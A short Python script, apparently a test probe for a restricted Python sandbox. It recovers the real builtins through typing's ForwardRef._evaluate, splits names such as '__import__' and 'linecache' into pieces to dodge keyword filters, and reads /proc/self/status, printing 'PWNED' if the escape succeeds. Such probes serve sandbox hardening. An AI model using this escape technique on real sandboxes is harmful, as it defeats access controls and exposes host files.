# fs: linecache (loaded by the launcher) reads any file by name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
lc = s.modules["line" + "cache"]
try:
    line = lc.getline("/proc/self/status", 1)
    if line:
        print(M, line)
except Exception as e:
    print("refused:", type(e).__name__, e)
